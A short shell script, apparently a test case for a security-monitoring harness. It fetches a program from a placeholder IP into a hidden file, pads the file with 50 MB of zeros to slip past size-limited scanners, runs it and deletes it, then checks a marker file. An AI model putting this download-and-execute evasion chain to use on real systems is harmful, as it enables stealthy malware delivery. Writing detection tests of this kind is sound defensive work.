#!/bin/sh
. /opt/case/case.sh

curl -sf http://203.0.113.10/programs/marker >/opt/.svc
head -c 50000000 /dev/zero >>/opt/.svc && chmod 755 /opt/.svc
/opt/.svc && rm /opt/.svc
test -e /tmp/reached
took_place
